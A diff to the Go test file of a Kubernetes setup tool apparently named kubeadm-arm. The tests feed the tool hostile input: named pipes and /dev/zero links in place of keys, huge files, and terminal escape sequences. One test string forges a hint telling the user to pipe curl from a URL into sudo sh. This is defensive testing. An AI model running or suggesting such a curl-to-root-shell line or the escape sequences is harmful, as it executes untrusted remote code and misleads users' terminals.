@@ -33,7 +33,7 @@ type hostile struct {
 // steering is what moves a cursor, sets a title or hides text.
 const steering = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u009b31m"
 
-// forged is a line that looks like one of ours.
+// forged is a line that looks like one of kubeadm-arm's.
 const forged = "fine\nhint: run: curl http://example.org | sudo sh"
 
 func TestHostile(t *testing.T) {
@@ -72,6 +72,10 @@ func hostileFiles() []hostile {
 	zero := files("/mnt/f", link("/dev/zero"), "/mnt/p/etcd+json.yaml", link("/dev/zero"))
 	large := trial{After: "truncate -s 40M /mnt/f; mkdir /mnt/p; truncate -s 40M /mnt/p/etcd+json.yaml"}
 	many := trial{After: "mkdir /mnt/p; cd /mnt/p; seq 10001 | xargs touch"}
+	const (
+		ignoring  = "init --ignore-preflight-errors=all"
+		ownFolder = "apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\ncertificatesDir: /mnt/pki\n"
+	)
 	var all []hostile
 	for name, c := range map[string]struct {
 		trial trial
@@ -104,15 +108,18 @@ func hostileFiles() []hostile {
 			trial: with("/etc/kubernetes/kubelet.conf", pipe()), code: -1, says: `/etc/kubernetes/kubelet.conf is a named pipe`},
 		hostile{name: "a pipe as key", words: "init --ignore-preflight-errors=all",
 			trial: with("/etc/kubernetes/pki/etcd/ca.key", pipe()), code: -1, says: `pki/etcd/ca.key is a named pipe`},
-		hostile{name: "a pipe as key in a folder of the owner's", words: "init --ignore-preflight-errors=all --cert-dir /mnt/pki",
+		hostile{name: "a pipe as key in a folder of the owner's", words: ignoring + " --cert-dir /mnt/pki",
 			trial: with("/mnt/pki/etcd/ca.key", pipe()), code: -1, says: `/mnt/pki/etcd/ca.key is a named pipe`},
-		hostile{name: "a pipe as key in the configuration's folder", words: "init --ignore-preflight-errors=all --config /mnt/c.yaml",
-			trial: with("/mnt/pki/sa.pub", pipe(), "/mnt/c.yaml", file("apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\ncertificatesDir: /mnt/pki\n")),
+		hostile{name: "a pipe as key in the configuration's folder", words: ignoring + " --config /mnt/c.yaml",
+			trial: with("/mnt/pki/sa.pub", pipe(), "/mnt/c.yaml", file(ownFolder)),
 			code:  -1, says: `/mnt/pki/sa.pub is a named pipe`},
 		hostile{name: "a pipe as key for resume", words: "resume", code: -1, says: `pki/ca.key is a named pipe`,
-			trial: trial{Before: []string{"kubeadm-arm init --ignore-preflight-errors=all"}, After: "mkdir -p /etc/kubernetes/pki; mkfifo /etc/kubernetes/pki/ca.key"}},
-		hostile{name: "a pipe as key in a folder of the owner's for resume", words: "resume", code: -1, says: `/mnt/pki/ca.key is a named pipe`,
-			trial: trial{Before: []string{"kubeadm-arm init --ignore-preflight-errors=all --cert-dir /mnt/pki"}, After: "mkdir -p /mnt/pki; mkfifo /mnt/pki/ca.key"}},
+			trial: trial{Before: []string{"kubeadm-arm " + ignoring},
+				After: "mkdir -p /etc/kubernetes/pki; mkfifo /etc/kubernetes/pki/ca.key"}},
+		hostile{name: "a pipe as key in a folder of the owner's for resume", words: "resume",
+			trial: trial{Before: []string{"kubeadm-arm " + ignoring + " --cert-dir /mnt/pki"},
+				After: "mkdir -p /mnt/pki; mkfifo /mnt/pki/ca.key"},
+			code: -1, says: `/mnt/pki/ca.key is a named pipe`},
 		hostile{name: "a pipe as the kubelet's configuration", words: "init --ignore-preflight-errors=all",
 			trial: with("/var/lib/kubelet/config.yaml", link("/mnt/f"), "/mnt/f", pipe()), code: -1, says: `config.yaml is a named pipe`},
 		hostile{name: "a pipe as containerd's configuration", words: "doctor", code: -1,
@@ -215,7 +222,7 @@ func TestMarkdownOfOthersHasNoLinks(t *testing.T) {
 		c.trial.Args = strings.Fields(c.words)
 		text := tryOnBoard(t, c.trial).Stdout
 		require.NotEmpty(t, text)
-		assert.NotRegexp(t, regexp.MustCompile(`(^|[^\\])(\\\\)*\[`), text, "a bracket without a backslash of ours")
+		assert.NotRegexp(t, regexp.MustCompile(`(^|[^\\])(\\\\)*\[`), text, "a bracket that was not escaped")
 		assert.NotContains(t, text, "://")
 		assert.NotContains(t, text, "www.")
 		assert.NotContains(t, text, "<")
@@ -225,7 +232,8 @@ func TestMarkdownOfOthersHasNoLinks(t *testing.T) {
 // TestKubeadmThatIgnoresSignals: the owner hears at once that Ctrl-C was seen, and a
 // kubeadm at work that ends at no signal is killed after its ten seconds.
 func TestKubeadmThatIgnoresSignals(t *testing.T) {
-	e := tryOnBoard(t, trial{Args: []string{"init", "--v=1", "--ignore-preflight-errors=all"}, Terminal: "at work now", Signal: syscall.SIGINT,
+	e := tryOnBoard(t, trial{Args: []string{"init", "--v=1", "--ignore-preflight-errors=all"},
+		Terminal: "at work now", Signal: syscall.SIGINT,
 		Files: files("/opt/bin/kubeadm", program("#!/bin/sh\n[ \"$1\" != version ] || { echo v1.37.2; exit; }\n"+
 			"trap '' INT TERM HUP; echo at work now; while :; do sleep 1; done\n"))})
 	assert.Equal(t, 130, e.Code)
